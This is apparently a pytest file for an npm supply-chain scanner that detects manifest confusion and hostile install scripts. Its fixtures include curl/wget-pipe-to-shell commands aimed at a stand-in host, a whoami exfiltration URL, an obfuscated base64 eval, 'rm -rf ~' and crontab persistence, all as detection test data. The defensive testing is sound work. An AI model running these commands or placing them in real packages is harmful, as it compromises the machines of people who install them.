from __future__ import annotations

import pytest

from npmguard.audit.context import AuditContext
from npmguard.audit.manifest import audit
from npmguard.detect.verdict import verdict_of
from npmguard.model import (
    Baseline,
    Confidence,
    Dist,
    Finding,
    LockedPackage,
    Manifest,
    Release,
    Severity,
    ShellDeed,
    TarballAnalysis,
    Verdict,
    VersionDiff,
)

LOCKED = LockedPackage("sample", "1.0.0", "node_modules/sample", 7)
SAMPLE = Manifest("sample", "1.0.0")


def findings(
    shipped: Manifest | None = SAMPLE,
    told: Manifest | None = SAMPLE,
    before: Manifest | None = None,
    *,
    implicit_install: str | None = None,
    gyp_commands: tuple[str, ...] = (),
    diff: VersionDiff | None = None,
    shell_deeds: tuple[ShellDeed, ...] = (),
    by_rules: tuple[Finding, ...] = (),
) -> tuple[Finding, ...]:
    analysis = TarballAnalysis(
        hashes=(),
        size=0,
        file_count=1,
        unpacked_size=0,
        manifest=shipped,
        notes=(),
        findings=by_rules,
        signals=(),
        diff=diff,
        implicit_install=implicit_install,
        gyp_commands=gyp_commands,
        shell_deeds=shell_deeds,
    )
    return audit(
        AuditContext(
            LOCKED,
            release=Release(told, Dist("")) if told else None,
            analysis=analysis,
            baseline=Baseline("0.9.0", "a test") if before else None,
            baseline_release=Release(before, Dist("")) if before else None,
        )
    )


def scripted(**scripts: str) -> Manifest:
    return Manifest("sample", "1.0.0", scripts=scripts)


def rules(found: tuple[Finding, ...]) -> list[str]:
    return [finding.rule for finding in found]


# --- what the registry does not show ---------------------------------------------------------------------


@pytest.mark.parametrize("key", ["preinstall", "install", "postinstall"])
def test_case_26_a_hidden_install_script_is_suspicious(key: str) -> None:
    (finding,) = findings(scripted(**{key: "node x.js"}))
    assert (finding.rule, finding.file) == ("manifest-confusion", "package.json")
    assert f"scripts.{key}" in finding.message
    assert finding.evidence[0].excerpt == "node x.js"
    assert verdict_of([finding]) is Verdict.SUSPICIOUS


def test_case_26_another_install_script_than_shown_is_suspicious() -> None:
    found = findings(scripted(postinstall="node evil.js"), scripted(postinstall="node good.js"))
    assert verdict_of(found) is Verdict.SUSPICIOUS
    assert "the registry shows node good.js" in found[0].evidence[0].message


@pytest.mark.parametrize("shipped", [Manifest("other", "1.0.0"), Manifest("sample", "6.6.6")])
def test_case_26_another_name_or_version_is_suspicious(shipped: Manifest) -> None:
    found = findings(shipped)
    assert rules(found) == ["manifest-confusion"]
    assert verdict_of(found) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("shipped", "told"),
    [
        (Manifest("sample", "1.0.0", dependencies={"a": "1"}), SAMPLE),
        (SAMPLE, Manifest("sample", "1.0.0", dependencies={"a": "1"})),
        (Manifest("sample", "1.0.0", bin={"npm": "x.js"}), SAMPLE),
        (SAMPLE, scripted(postinstall="husky install")),  # taken out while packing, as pinst does it
    ],
)
def test_case_26_what_honest_publishers_cause_is_a_note(shipped: Manifest, told: Manifest) -> None:
    found = findings(shipped, told)
    assert rules(found) == ["manifest-confusion"]
    assert verdict_of(found) is Verdict.CLEAN


@pytest.mark.parametrize(
    ("shipped", "told"),
    [
        (SAMPLE, scripted(install="node-gyp rebuild")),  # case 22
        (SAMPLE, scripted(start="node server.js")),  # react-dom 18.2.0
        (scripted(test="jest"), scripted(test="tap", prepare="tsc")),  # never run by an installation
        (Manifest("sample", "v1.0.0"), SAMPLE),
    ],
)
def test_case_22_what_npm_itself_changes_is_not_told(shipped: Manifest, told: Manifest) -> None:
    assert findings(shipped, told) == ()


def test_without_either_manifest_nothing_is_compared() -> None:
    assert findings(None, SAMPLE) == ()
    assert findings(scripted(postinstall="node x.js"), None) == ()


def test_many_differences_are_one_finding() -> None:
    many = Manifest("sample", "1.0.0", dependencies={f"d{number:02}": "1" for number in range(40)})
    (finding,) = findings(many)
    assert finding.message.endswith("and 30 more.")
    assert len(finding.evidence) == 10


# --- what an installation runs ---------------------------------------------------------------------------


def test_a_new_install_script_is_a_note_that_names_it() -> None:
    now = scripted(postinstall="node setup.js")
    (finding,) = findings(now, now, SAMPLE)
    assert (finding.rule, finding.severity, finding.added) == ("install-script-added", Severity.MEDIUM, True)
    assert finding.message == "Installing it runs what 0.9.0 did not: postinstall."
    assert finding.evidence[0].excerpt == "node setup.js"


def test_a_changed_install_script_is_a_note_too() -> None:
    now = scripted(postinstall="node b.js")
    (finding,) = findings(now, now, scripted(postinstall="node a.js"))
    assert "postinstall (changed)" in finding.message
    assert "node a.js" in finding.evidence[0].message


def test_an_unchanged_or_a_removed_install_script_is_none() -> None:
    now = scripted(postinstall="node a.js")
    assert findings(now, now, scripted(postinstall=" node a.js ", preinstall="node b.js")) == ()


def test_without_a_baseline_nothing_is_called_new() -> None:
    now = scripted(postinstall="node setup.js")
    assert findings(now, now) == ()


def test_case_25_a_new_gyp_file_is_a_new_install_script() -> None:
    (finding,) = findings(before=SAMPLE, implicit_install="binding.gyp")
    assert finding.rule == "install-script-added"
    assert finding.evidence[0].excerpt == "node-gyp rebuild"


@pytest.mark.parametrize(
    ("before", "diff"),
    [
        (scripted(install="node-gyp rebuild"), None),
        (SAMPLE, VersionDiff("0.9.0", "1.0.0", (), (), (), ())),
    ],
)
def test_case_25_a_gyp_file_that_was_there_before_is_none(before: Manifest, diff: VersionDiff | None) -> None:
    assert findings(before=before, implicit_install="binding.gyp", diff=diff) == ()


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("wget -qO- http://host.invalid/x | sh", Verdict.MALICIOUS),
        ("w'g'et -qO- http://host.invalid/x | s\\h", Verdict.MALICIOUS),
        ("curl http://host.invalid/?u=$(whoami)", Verdict.MALICIOUS),
        ("node -e \"eval(Buffer.from('MQ==','base64')+'')\"", Verdict.MALICIOUS),
        ("wget http://host.invalid/data.tar.gz", Verdict.SUSPICIOUS),
        ("true;" * 100_000, Verdict.SUSPICIOUS),
        ("node -e \"try{require('./postinstall')}catch(e){}\"", Verdict.CLEAN),
        ("node install.js", Verdict.CLEAN),
        ("husky install", Verdict.CLEAN),
    ],
)
def test_case_24_malice_in_the_script_alone(script: str, verdict: Verdict) -> None:
    for before in (None, SAMPLE, scripted(postinstall=script)):  # a baseline never excuses
        now = scripted(postinstall=script)
        assert verdict_of(findings(now, now, before)) is verdict


def test_case_24_a_script_that_only_the_registry_shows_is_judged_too() -> None:
    found = findings(SAMPLE, scripted(postinstall="curl http://host.invalid/x | sh"))
    assert verdict_of(found) is Verdict.MALICIOUS


def test_case_24_without_a_readable_tarball_what_the_registry_shows_is_judged() -> None:
    found = findings(None, scripted(postinstall="curl http://host.invalid/x | sh"))
    assert rules(found) == ["install-script-downloads"]


def test_scripts_that_no_installation_runs_are_not_judged() -> None:
    now = scripted(test="curl http://host.invalid/x | sh", prepare="curl http://host.invalid/x | sh")
    assert findings(now, now, SAMPLE) == ()


def test_case_25_a_command_in_a_gyp_file_is_judged_like_a_script() -> None:
    commands = ("curl http://host.invalid/x | sh", "node -p \"require('node-addon-api').include\"")
    (finding,) = findings(before=scripted(install="node-gyp rebuild"), gyp_commands=commands)
    assert finding.rule == "install-script-downloads"
    assert finding.message == "A .gyp command fetches or decodes code and runs it."
    assert verdict_of([finding]) is Verdict.MALICIOUS


def test_the_same_script_in_both_manifests_is_told_once() -> None:
    now = scripted(postinstall="curl http://host.invalid/x | sh")
    assert rules(findings(now, now)) == ["install-script-downloads"]


# --- shell files that an installation runs ---------------------------------------------------------------


@pytest.mark.parametrize("risk", ["runs-fetched", "sends", "destroys", "stops"])
def test_a_shell_file_that_an_installation_runs_is_judged_by_its_commands(risk: str) -> None:
    (finding,) = findings(scripted(), shell_deeds=(ShellDeed("go.sh", risk, "curl x | sh"),))
    assert (finding.rule, finding.file) == ("install-script-downloads", "go.sh")
    assert finding.evidence[0].excerpt == "curl x | sh"
    assert verdict_of([finding]) is Verdict.MALICIOUS


def test_a_shell_file_that_settles_in_is_suspicious_and_one_that_fetches_is_not() -> None:
    settles = findings(scripted(), shell_deeds=(ShellDeed("go.sh", "persists", "crontab x"),))
    assert verdict_of(settles) is Verdict.SUSPICIOUS
    assert findings(scripted(), shell_deeds=(ShellDeed("go.sh", "fetches", "curl -O x.tar.gz"),)) == ()


def test_what_a_rule_has_said_of_the_shipped_scripts_is_not_said_again() -> None:
    said = (Finding("install-script-harm", Severity.CRITICAL, Confidence.HIGH, "It does harm."),)
    pipe = scripted(preinstall="curl x | sh")
    deed = (ShellDeed("go.sh", "destroys", "rm -rf ~"),)
    assert findings(pipe, pipe, shell_deeds=deed, by_rules=said) == ()
    assert "install-script-downloads" in rules(findings(scripted(), pipe, by_rules=said))
    settles = scripted(postinstall="crontab jobs")
    assert rules(findings(settles, settles, by_rules=said)) == ["install-script-downloads"]
